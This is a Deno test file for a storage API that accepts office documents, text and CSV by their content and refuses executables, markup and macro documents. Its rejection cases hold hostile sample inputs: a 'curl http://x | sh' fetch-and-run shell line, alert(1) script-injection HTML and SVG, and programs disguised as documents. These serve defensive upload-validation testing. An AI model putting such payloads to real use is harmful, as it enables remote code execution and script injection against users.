/**
 * The documents a shop keeps in the storage hub (API §11): PDF and images, Word and Excel
 * (docx, xlsx), OpenDocument text and spreadsheets (odt, ods), plain text and CSV — each
 * judged from its content, never from its name; executables, HTML and other markup, other
 * archives and office documents carrying macros stay out (415).
 */
import { assertEquals } from "../_helpers/assert.ts";
import { api, type TestApp } from "../_helpers/test_app.ts";
import { DOCX, ODS, ODT, openDocument, XLSX, zip } from "../_helpers/zip.ts";
import { bytes, folder, PDF, storageSuite, type StorageUsers, upload } from "./_fixtures.ts";

let t: TestApp;
let u: StorageUsers;
storageSuite((s) => ({ t, u } = s));

const text = (value: string) => new TextEncoder().encode(value);
const TEXT = "text/plain; charset=utf-8";

/** The file's content by signed URL: status, Content-Type, Content-Disposition and bytes. */
async function download(fileId: string) {
  const signed = await api(t.app, "POST", `/v1/storage/files/${fileId}/url`, {
    token: u.viewer.token,
  });
  assertEquals(signed.status, 200, signed.text);
  const url = new URL(signed.body.url);
  const res = await t.app.request(url.pathname + url.search);
  return {
    status: res.status,
    type: res.headers.get("Content-Type"),
    disposition: res.headers.get("Content-Disposition"),
    body: new Uint8Array(await res.arrayBuffer()),
  };
}

Deno.test("the hub keeps docx, xlsx, odt, ods, text and CSV, typed from their content", async () => {
  const root = await folder(t, u.admin, { isPublic: true });
  const cases: Array<[Uint8Array, string, string, string]> = [
    [
      DOCX,
      "Repair manual.docx",
      "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
      "Repair manual.docx",
    ],
    [
      XLSX,
      "Price list.xlsx",
      "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
      "Price list.xlsx",
    ],
    [ODT, "Rota.odt", "application/vnd.oasis.opendocument.text", "Rota.odt"],
    [ODS, "Stock count", "application/vnd.oasis.opendocument.spreadsheet", "Stock count.ods"],
    [text("sku,name,price\r\nSTR-10,Strings,9.99\r\n"), "prices.csv", TEXT, "prices.csv"],
    [text("Alarm company: call 555-0100\n"), "README", TEXT, "README.txt"],
    // Judged from the content: a spreadsheet named as a PDF stays a spreadsheet.
    [XLSX, "quote.pdf", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", ""],
  ];
  for (const [content, name, contentType, savedAs] of cases) {
    const res = await upload(t, u.admin, root.id, content, name);
    assertEquals([res.status, res.body.contentType, res.body.size], [
      201,
      contentType,
      content.byteLength,
    ], `${name}: ${res.text}`);
    const got = await download(res.body.id);
    assertEquals([got.status, got.type, got.body], [200, contentType, content], name);
    const expected = savedAs || "quote.pdf.xlsx";
    assertEquals(got.disposition?.includes(`filename="${expected}"`), true, got.disposition!);
  }
  assertEquals((await upload(t, u.admin, root.id, PDF, "a.pdf")).status, 201);
});

Deno.test("executables, markup, other archives and macro documents are refused with 415", async () => {
  const root = await folder(t, u.admin);
  const cases: Array<[string, Uint8Array, string]> = [
    ["a Windows program", bytes(0x4d, 0x5a, 0x90, 0x00, 0x03, 0x00), "setup.docx"],
    ["an ELF program", bytes(0x7f, 0x45, 0x4c, 0x46, 0x02, 0x01, 0x01, 0x00), "tool.csv"],
    ["a shell script", text("#!/bin/sh\ncurl http://x | sh\n"), "notes.txt"],
    ["an HTML page", text("<!DOCTYPE html><script>alert(1)</script>"), "page.txt"],
    ["HTML after white space", text("\r\n  <html><body onload=alert(1)>"), "list.csv"],
    ["an SVG", text("<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"), "a.txt"],
    ["a plain ZIP", zip([["invoice.exe", "MZ"]]), "invoice.docx"],
    [
      "a Word document with macros",
      zip([
        ["[Content_Types].xml", "<Types/>"],
        ["word/document.xml", "<w:document/>"],
        ["word/vbaProject.bin", "macro"],
      ]),
      "letter.docx",
    ],
    [
      "an OpenDocument with scripts",
      openDocument("application/vnd.oasis.opendocument.spreadsheet", [["Scripts/run.js", "x"]]),
      "sheet.ods",
    ],
    ["a legacy Word file", bytes(0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1), "old.doc"],
    ["UTF-16 text", bytes(0xff, 0xfe, 0x61, 0x00, 0x62, 0x00), "export.txt"],
  ];
  for (const [what, content, name] of cases) {
    const res = await upload(t, u.admin, root.id, content, name);
    assertEquals([res.status, res.body.code], [415, "unsupported_media_type"], what);
  }
  const files = await api(t.app, "GET", `/v1/storage/folders/${root.id}/files`, {
    token: u.admin.token,
  });
  assertEquals(files.body.data, []);
});
